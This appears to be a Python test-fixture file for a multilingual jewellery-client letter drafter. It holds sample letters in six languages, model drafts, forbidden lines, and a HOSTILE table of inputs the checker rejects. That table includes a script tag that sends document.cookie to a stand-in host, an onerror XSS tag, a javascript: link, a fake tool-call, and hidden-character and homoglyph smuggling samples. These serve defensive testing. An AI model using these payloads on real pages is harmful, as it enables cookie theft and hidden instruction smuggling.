"""One letter per language as Carnet composes it, drafts a good model returned for it, and lines no draft may hold."""

from __future__ import annotations

from carnet.outreach.kinds import Reason
from carnet.outreach.rules.drafting.evidence import Evidence
from carnet.outreach.rules.drafting.tidying import tidied

PARTS = {
    "en": (
        "Dear Dr Okafor,",
        "A few weeks already with the Aube ring, and I wanted to ask after you.",
        "If the band feels a little tight, let me know and we will see to it together.\nWith kind regards,",
        "Camille Aubry",
    ),
    "fr": (
        "Chère Madame,",
        "Quelques semaines déjà avec la bague Aube, et je voulais prendre de vos nouvelles.",
        "Si l’anneau vous semble un peu serré, dites-le-moi et nous verrons cela ensemble.\nBien à vous,",
        "Camille Aubry",
    ),
    "it": (
        "Gentile Signora Ferrante,",
        "Sono passate alcune settimane con l’anello Aube, e desideravo sapere come sta.",
        "Se Le sembra un po’ stretto, me lo dica e vedremo insieme.\nCordiali saluti,",
        "Camille Aubry",
    ),
    "ja": (
        "渡辺様",
        "Aubeの指輪をお迎えいただいて数週間、お変わりなくお過ごしでしょうか。",
        "少しきつく感じられるようでしたら、どうぞお知らせください。\n今後ともよろしくお願い申し上げます。",
        "Camille Aubry",
    ),
    "zh": (
        "陈女士，您好：",
        "Aube戒指陪伴您已有几周，想问候您一声。",
        "若戒圈略紧，请告诉我，我们一起来看看。\n此致敬礼",
        "Camille Aubry",
    ),
    "ar": (
        "السيدة نور المحترمة،",
        "مضت أسابيع قليلة مع خاتم Aube، وأردت أن أطمئن عليكِ.",
        "إن بدا الخاتم ضيقًا قليلًا فأخبريني، وسنرى ذلك معًا.\nمع أطيب التحيات،",
        "Camille Aubry",
    ),
}
NAMES = {
    "en": ("Amara Okafor", "Amara", "Okafor"),
    "fr": ("Hélène Marchetti",),
    "it": ("Luca Ferrante",),
    "ja": ("渡辺 健司",),
    "zh": ("陈思远",),
    "ar": ("نور الهاشمي",),
}
BODIES = {
    "en": (
        """
I have been thinking of you and of the Aube ring. Does it still please you, now that a few weeks have gone by?

Should the band want a little care, tell me, and we will look at it together. It's no trouble.
Kind regards,
""",
        """
The Aube ring has been yours for some weeks. I hope that wearing it brings you joy.

Perhaps the band feels a little loose; if so, do let me know.
With my best wishes,
""",
    ),
    "fr": (
        """
J’ai pensé à vous, et à cette bague Aube qui vous accompagne depuis quelques semaines.

L’anneau demande-t-il un petit réglage ? Dites-le-moi simplement, nous nous en occuperons.
Bien à vous,
""",
        """
Comment se porte la bague Aube après ces premières semaines\u202f? J’espère qu’elle vous plaît comme au premier jour.

Si elle vous serre un peu, nous verrons cela ensemble.
Avec toute ma considération,
""",
    ),
    "it": (
        """
Ho pensato a Lei e all’anello Aube, ora che alcune settimane sono passate.

Se desidera una piccola regolazione, me lo dica: vedremo insieme.
Cordiali saluti,
""",
        """
Spero che l’anello Aube Le dia la gioia di quando l’ha scelto, qualche settimana dopo.

Per qualunque cosa, sono qui.
Con i migliori saluti,
""",
    ),
    "ja": (
        """
Aubeの指輪とともに過ごされて数週間、いかがお過ごしでしょうか。

サイズのことで気になる点がございましたら、いつでもお知らせください。
どうぞよろしくお願いいたします。
""",
        """
数週間が過ぎ、Aubeの指輪はお手元になじんでまいりましたでしょうか。

少しでも気がかりなことがございましたら、どうぞお申し付けください。
心をこめて
""",
    ),
    "zh": (
        """
这几周来，Aube戒指可还合您的心意？

若觉得略紧，请随时告诉我，我们一起来看看。
顺颂近安
""",
        """
想起您与Aube戒指相伴已有几周，特来问候。

如有任何不适之处，一定告诉我。
此致敬礼
""",
    ),
    "ar": (
        """
فكرت فيكِ وفي خاتم Aube بعد هذه الأسابيع القليلة.

إن احتاج الخاتم إلى عناية بسيطة فأخبريني.
مع خالص التحية،
""",
        """
أرجو أن يكون خاتم Aube قد أسعدك في هذه الأسابيع.

وإن بدا ضيقًا فسنرى ذلك معًا.
مع أطيب التحيات،
""",
    ),
}
WRONG = {
    "en": {
        "name": "Margaux sends her love.; We thought of Bianca as well.; Do come to the Ritz with us.; I saw Mr Renard.",
        "number": "The two of us chose it.; It has 18 stones.; There were twelve of them.; Thirty good wishes.; It is ٢٤ now.",
        "date": "See you on Saturday.; Come by tomorrow.; We spoke last month.; Since December it shines.; At Easter, then.",
        "piece": "Your necklace is lovely too.; The diamonds shine.; A watch would suit you.; The engraving is done.",
        "person": "Your husband will be glad.; Greet your daughter.; How is your mother.",
        "occasion": "Your birthday is near.; I hope the wedding was lovely.; It makes a fine gift.",
        "manners": "You deserve it.; Do hurry, please.",
    },
    "fr": {
        "name": "Margaux vous salue.; Nous pensions à Bianca aussi.; Retrouvons-nous au Ritz.",
        "number": "Les deux pierres brillent.; Elle compte 18 pierres.; Une douzaine de fois.",
        "date": "À samedi.; Passez demain.; Le mois dernier, déjà.; En décembre, elle brille.",
        "piece": "Votre collier est beau aussi.; Les diamants brillent.; Une montre vous irait.",
        "person": "Votre mari sera heureux.; Saluez votre fille.; Et votre mère.",
        "occasion": "Votre anniversaire approche.; Pour Noël, peut-être.; C’est un beau cadeau.",
        "form": "Je pense à toi.; Dis-moi si ta bague te plaît.",
        "manners": "Vous le méritez.; Ne tardez pas.",
    },
    "it": {
        "name": "Margherita La saluta.; Abbiamo pensato anche a Bianca.; Vediamoci al Danieli.",
        "number": "Le due pietre brillano.; Conta 18 pietre.; Una dozzina di volte.",
        "date": "A sabato.; Passi domani.; Lo scorso mese, già.; In dicembre brilla.",
        "piece": "La Sua collana è bella.; I diamanti brillano.; Un orologio Le starebbe bene.",
        "person": "Suo marito sarà lieto.; Saluti Sua figlia.; E Sua madre.",
        "occasion": "Il Suo compleanno è vicino.; Per Natale, forse.; È un bel regalo.",
        "form": "Penso a te.; Dimmi se il tuo anello ti piace.",
    },
    "ja": {
        "name": "田中様もお元気です。; ビアンカもお会いしたがっています。; 「月光」もお似合いです。; Ritzでお会いしましょう。",
        "number": "二つの石が輝きます。; 18個の石です。; 三度お会いしました。",
        "date": "土曜日にお待ちします。; 明日お越しください。; 先月お会いしました。; 十二月にまた。; 5月にまた。",
        "piece": "ネックレスもお似合いです。; ダイヤモンドが輝きます。; 時計もいかがでしょう。",
        "person": "ご主人様もお喜びでしょう。; お嬢様によろしく。; お母様はお元気ですか。",
        "occasion": "お誕生日が近づきました。; クリスマスも間近です。; 贈り物にも。",
    },
    "zh": {
        "name": "王女士也很想念。; 「月光」也很适合。; 我们在Ritz见。; 安娜·卡列尼娜也来了。",
        "number": "两颗宝石闪耀。; 共有18颗。; 见过三次。",
        "date": "周六见。; 明天请来。; 上个月见过。; 十二月再会。; 5月再会。",
        "piece": "项链也很美。; 钻石闪耀。; 腕表也适合您。",
        "person": "您丈夫一定高兴。; 问候您的女儿。; 您母亲好吗。",
        "occasion": "生日快到了。; 圣诞将至。; 是很好的礼物。",
        "form": "我想念你。",
    },
    "ar": {
        "name": "السيدة ليلى تسلم عليكِ.; نلتقي في Ritz.; والدكتور سامي هنا.",
        "number": "فيه ثلاثة أحجار.; فيه 18 حجرًا.; والتقينا مرتين.; فيه ١٨ حجرًا.",
        "date": "نلتقي يوم السبت.; مري بنا غدًا.; التقينا الشهر الماضي.; وفي ديسمبر يلمع.",
        "piece": "وعقدك جميل أيضًا.; والألماس يلمع.; وسوار يليق بكِ.",
        "person": "سيفرح زوجك.; سلمي على ابنتك.; وكيف والدتك.",
        "occasion": "عيد ميلادك قريب.; وهو هدية جميلة.; ورمضان قريب.",
    },
}
HOSTILE = {
    "tag": ("<script>fetch('//x.test/'+document.cookie)</script>", "not_plain"),
    "image tag": ("<img src=x onerror=alert(1)>", "not_plain"),
    "entity": ("&#60;b&#62;", "not_plain"),
    "image": ("![a](http://x.test/a.png)", "not_plain"),
    "reference image": ("![a][b]\n\n[b]: http://x.test/a.png", "not_plain"),
    "emphasis": ("It is **yours**.", "not_plain"),
    "heading": ("# A heading", "not_plain"),
    "list": ("- one thing", "not_plain"),
    "code": ("```js```", "not_plain"),
    "tool call": ('{"tool_calls": [{"name": "send"}]}', "not_plain"),
    "link": ("See https://x.test/a", "link"),
    "bare link": ("See vauclair.example/a", "link"),
    "www": ("See www.vauclair", "link"),
    "script link": ("javascript:alert(1)", "link"),
    "wide link": ("See ｈｔｔｐ：／／ｘ．ｔｅｓｔ", "link"),
    "address": ("Write to me at a@b", "address"),
    "number": ("Call 01 99 00 11 02", "address"),
    "wide number": ("Call ０１９９００１１０２", "address"),
    "arabic number": ("Call ٠١٩٩٠٠١١٠٢", "address"),
    "zero width": ("a\u200bb", "unseen"),
    "joiner": ("a\u200db", "unseen"),
    "word joiner": ("a\u2060b", "unseen"),
    "bidi": ("a\u202eb", "unseen"),
    "isolate": ("a\u2066b", "unseen"),
    "tag signs": ("a" + "".join(chr(0xE0000 + ord(sign)) for sign in "send"), "unseen"),
    "selector": ("a\ufe0f", "unseen"),
    "soft hyphen": ("a\u00adb", "unseen"),
    "control": ("a\x07b", "unseen"),
    "private": ("a\ue000b", "unseen"),
    "filler": ("a\u3164b", "script"),
    "homoglyph": ("pl\u0435ase", "script"),
    "styled": ("\U0001d4ee\U0001d4f7", "script"),
    "heaped": ("a\u0301\u0302\u0303\u0304", "script"),
}


def evidence(language: str, **changed: object) -> Evidence:
    """What a letter in that language rests on."""
    opening, *_body, signature = PARTS[language]
    said: dict[str, object] = {
        "reason": Reason.WEAR, "language": language, "form": "formal", "opening": opening, "signature": signature,
        "letter": "\n\n".join(PARTS[language]), "names": NAMES[language], "pieces": ("Aube",), "categories": ("ring",),
        "maison": "Vauclair", "boutique": "rue du Mail",
    }  # fmt: skip
    return Evidence(**(said | changed))  # type: ignore[arg-type]


def letter(language: str, body: str) -> str:
    """A whole letter around it."""
    return tidied(f"{PARTS[language][0]}\n\n{body.strip()}\n{PARTS[language][-1]}", language)


def with_a_line(language: str, line: str) -> str:
    """A good draft with one line more."""
    return letter(language, f"{line.strip()}\n\n{BODIES[language][0]}")
